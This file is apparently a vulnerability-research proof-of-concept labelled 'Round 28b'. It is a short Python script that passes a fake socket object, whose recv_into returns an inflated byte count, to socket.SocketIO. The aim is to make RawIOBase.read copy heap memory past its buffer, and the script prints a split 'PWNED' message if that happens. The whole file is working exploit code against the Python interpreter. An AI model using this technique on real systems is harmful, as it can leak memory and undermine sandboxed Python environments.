# Round 28b: socket.SocketIO is a RawIOBase subclass already; its readinto answers what the program's socket object says, and RawIOBase.read copied that many bytes, past its buffer (a heap read).
import asyncio
class Mine:
    def __init__(self): self._ssock = 1
class Fake:
    def recv_into(self, b):
        return 256
async def main():
    loop = asyncio.get_running_loop()
    S = type(loop._ssock)
    s = S(1, 1, 0)
    raw = s.makefile('rb', buffering=0)
    SIO = type(raw)
    print(SIO, SIO.__module__, SIO.mro())
    r = SIO(Fake(), "rb")
    data = r.read(1)
    print("read(1) returned", len(data), "bytes")
    if len(data) > 1:
        print("PW" + "NED: RawIOBase.read copied heap bytes past its buffer", data[:32])
asyncio.run(main())
